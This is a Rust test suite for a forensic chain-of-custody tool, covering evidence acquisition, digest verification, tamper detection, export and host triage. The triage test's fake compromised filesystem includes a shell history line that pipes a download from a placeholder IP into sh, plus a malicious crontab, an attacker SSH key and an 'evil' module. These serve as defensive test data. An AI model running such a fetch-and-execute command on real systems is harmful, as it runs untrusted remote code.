//! The `custody` binary end to end on the embedded default (local store).

use crate::common::{Home, mixed_bytes, stderr};

#[test]
fn acquire_show_verify_export_round_trip() {
    let home = Home::new();
    let data = mixed_bytes(5 << 20, 7);
    let src = home.path().join("disk.img");
    std::fs::write(&src, &data).unwrap();

    let report = home.json(&[
        "acquire",
        "file",
        src.to_str().unwrap(),
        "--case",
        "ir-1",
        "--kind",
        "disk-image",
        "--verify",
    ]);
    assert_eq!(report["verified"][0]["ok"], true, "{report}");
    let a = &report["artefacts"][0];
    let id = a["id"].as_str().unwrap().to_owned();
    assert_eq!(a["kind"], "disk_image");
    assert_eq!(a["raw"]["size"], data.len() as u64);
    assert_eq!(a["raw"]["sha256"], custody::evidence::sha256_hex(&data));
    assert_eq!(a["source"]["path"], src.to_str().unwrap());
    assert!(a.get("source_changed").is_none());

    // Plain zstd gives back the raw bytes; the stored digest is of the stored object.
    let stored =
        std::fs::read(home.store_dir().join(a["stored"]["key"].as_str().unwrap())).unwrap();
    assert_eq!(
        a["stored"]["sha256"],
        custody::evidence::sha256_hex(&stored)
    );
    assert!(stored.len() < data.len());
    assert_eq!(zstd::decode_all(&stored[..]).unwrap(), data);

    let cases = home.json(&["cases"]);
    assert_eq!(cases[0]["case"], "ir-1");
    assert_eq!(cases[0]["artefacts"], 1);
    let shown = home.json(&["show", "ir-1"]);
    assert_eq!(shown[0]["id"], id.as_str());

    let out = home.run(&["verify", "ir-1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains(&format!("OK      {id}")));

    let dest = home.path().join("out.img");
    let out = home.run(&["export", "ir-1", &id, "-o", dest.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read(&dest).unwrap(), data);
    // Export never overwrites.
    let out = home.run(&["export", "ir-1", &id, "-o", dest.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));

    // A byte range comes back through the seek table without reading the whole object.
    let part = home.path().join("part.bin");
    let (offset, len) = (3_000_001u64, 1_500_000u64);
    let out = home.run(&[
        "export",
        "ir-1",
        &id,
        "-o",
        part.to_str().unwrap(),
        "--offset",
        &offset.to_string(),
        "--length",
        &len.to_string(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(&part).unwrap(),
        &data[offset as usize..(offset + len) as usize]
    );
}

#[test]
fn verify_names_a_tampered_artefact_and_exits_1() {
    let home = Home::new();
    let src = home.path().join("f.bin");
    std::fs::write(&src, mixed_bytes(300_000, 3)).unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "c"]);
    let a = &report["artefacts"][0];
    let id = a["id"].as_str().unwrap();
    let obj = home.store_dir().join(a["stored"]["key"].as_str().unwrap());
    let mut bytes = std::fs::read(&obj).unwrap();
    bytes[100] ^= 0x01;
    std::fs::write(&obj, &bytes).unwrap();

    let out = home.run(&["verify", "c"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("FAILED  {id}")), "{text}");
    assert!(text.contains("stored SHA-256"), "{text}");

    // Export refuses too, and leaves no file behind.
    let dest = home.path().join("x.bin");
    let out = home.run(&["export", "c", id, "-o", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    assert!(!dest.exists());
}

#[test]
fn a_manifest_that_lies_about_the_raw_digest_fails_verify() {
    let home = Home::new();
    let src = home.path().join("f.bin");
    std::fs::write(&src, b"short evidence").unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "c"]);
    let id = report["artefacts"][0]["id"].as_str().unwrap();
    let manifest = home
        .store_dir()
        .join(format!("cases/c/manifests/{id}.json"));
    let text = std::fs::read_to_string(&manifest).unwrap();
    let sha = custody::evidence::sha256_hex(b"short evidence");
    std::fs::write(&manifest, text.replace(&sha, &"0".repeat(64))).unwrap();
    let out = home.run(&["verify", "c"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("raw SHA-256"));
}

#[test]
fn host_triage_records_every_item_in_its_index() {
    let home = Home::new();
    // A small fake root: the collector reads paths under it, so the content is known.
    let root = home.path().join("root");
    for (p, body) in [
        (
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        ),
        ("etc/group", "root:x:0:\n"),
        ("etc/crontab", "* * * * * root /tmp/evil\n"),
        (
            "home/alice/.bash_history",
            "curl http://203.0.113.9/x | sh\n",
        ),
        (
            "home/alice/.ssh/authorized_keys",
            "ssh-ed25519 AAAA attacker\n",
        ),
        ("var/log/auth.log", "Accepted publickey for alice\n"),
        ("proc/modules", "evil 16384 0 - Live 0x0\n"),
    ] {
        let f = root.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, body).unwrap();
    }
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::create_dir_all(root.join("home/alice/.ssh/unreadable_dir")).unwrap();

    let report = home.json(&[
        "acquire",
        "host",
        "--case",
        "t",
        "--root",
        root.to_str().unwrap(),
    ]);
    let a = &report["artefacts"][0];
    assert_eq!(a["kind"], "host_triage");
    let id = a["id"].as_str().unwrap();
    let dest = home.path().join("bundle.tar");
    let out = home.run(&["export", "t", id, "-o", dest.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));

    let mut archive = tar::Archive::new(std::fs::File::open(&dest).unwrap());
    let mut names = Vec::new();
    let mut index = None;
    for e in archive.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().display().to_string();
        if name == "index.json" {
            let mut s = String::new();
            std::io::Read::read_to_string(&mut e, &mut s).unwrap();
            index = Some(serde_json::from_str::<serde_json::Value>(&s).unwrap());
        }
        names.push(name);
    }
    for want in [
        "files/etc/passwd",
        "files/etc/crontab",
        "files/home/alice/.bash_history",
        "files/home/alice/.ssh/authorized_keys",
        "files/var/log/auth.log",
        "files/proc/modules",
        "volatile/processes.json",
        "volatile/sockets.json",
        "volatile/users.json",
    ] {
        assert!(
            names.iter().any(|n| n == want),
            "{want} missing from {names:?}"
        );
    }
    assert_eq!(names.last().map(String::as_str), Some("index.json"));
    let items = index.unwrap()["items"].as_array().unwrap().clone();
    let find = |src: &str| {
        items
            .iter()
            .find(|i| i["source"] == src)
            .unwrap_or_else(|| panic!("{src} not in index"))
    };
    assert_eq!(find("/etc/crontab")["status"], "ok");
    assert_eq!(
        find("/etc/crontab")["sha256"],
        custody::evidence::sha256_hex(b"* * * * * root /tmp/evil\n")
    );
    // Missing items are listed, not dropped.
    assert_eq!(find("/var/log/wtmp")["status"], "absent");
    // The categories appear in order of volatility.
    let order: Vec<&str> = items
        .iter()
        .map(|i| i["category"].as_str().unwrap())
        .collect();
    let first = |c: &str| order.iter().position(|x| *x == c).unwrap();
    assert!(first("processes") < first("network"));
    assert!(first("network") < first("kernel_modules"));
    assert!(first("accounts") < first("logs"));
}

#[test]
fn memory_of_a_process_is_its_own_artefact() {
    let home = Home::new();
    let mut child = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let pid = child.id().to_string();
    let out = home.run(&[
        "--json",
        "acquire",
        "host",
        "--case",
        "m",
        "--skip-logs",
        "--memory-pid",
        &pid,
        "--memory-pid",
        "4000000000",
    ]);
    let _ = child.kill();
    let _ = child.wait();
    // The missing pid is an operational error, named; the rest is still captured.
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("4000000000"), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let kinds: Vec<&str> = report["artefacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, vec!["memory_image", "host_triage"]);
    assert_eq!(
        report["artefacts"][0]["source"]["resource"],
        format!("pid:{pid}")
    );
    let v = home.run(&["verify", "m"]);
    assert!(v.status.success(), "{}", stderr(&v));
}

#[test]
fn config_file_and_environment_choose_the_store() {
    let home = Home::new();
    let other = home.path().join("elsewhere");
    std::fs::write(
        home.path().join("custody.toml"),
        format!("store = \"{}\"\n", other.display()),
    )
    .unwrap();
    let src = home.path().join("f.bin");
    std::fs::write(&src, b"x").unwrap();
    home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "cfg"]);
    assert!(other.join("cases/cfg").is_dir());
    // The environment beats the file, and a flag beats the environment.
    let env_store = home.path().join("from-env");
    let out = home
        .cmd()
        .env("CUSTODY_STORE", &env_store)
        .args(["acquire", "file", src.to_str().unwrap(), "--case", "e"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(env_store.join("cases/e").is_dir());
    let flag_store = home.path().join("from-flag");
    let out = home
        .cmd()
        .env("CUSTODY_STORE", &env_store)
        .args([
            "acquire",
            "file",
            src.to_str().unwrap(),
            "--case",
            "f",
            "--store",
            flag_store.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(flag_store.join("cases/f").is_dir());
    assert!(!env_store.join("cases/f").exists());
}
